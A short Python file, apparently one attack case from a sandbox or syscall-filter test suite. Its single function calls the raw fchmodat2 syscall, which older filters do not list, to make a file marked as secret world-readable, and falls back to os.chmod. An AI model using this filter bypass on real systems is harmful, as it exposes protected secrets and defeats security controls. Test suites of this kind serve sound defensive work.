"""Makes a secret readable for all by `fchmodat2`, which older lists of calls lack."""

import ctypes
import os


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    path, mode, none = TARGET["secret"].encode(), ctypes.c_long(0o644), ctypes.c_long(0)
    if libc.syscall(ctypes.c_long(452), ctypes.c_long(-100), path, mode, none):
        os.chmod(TARGET["secret"], 0o644)  # where the kernel has no such call
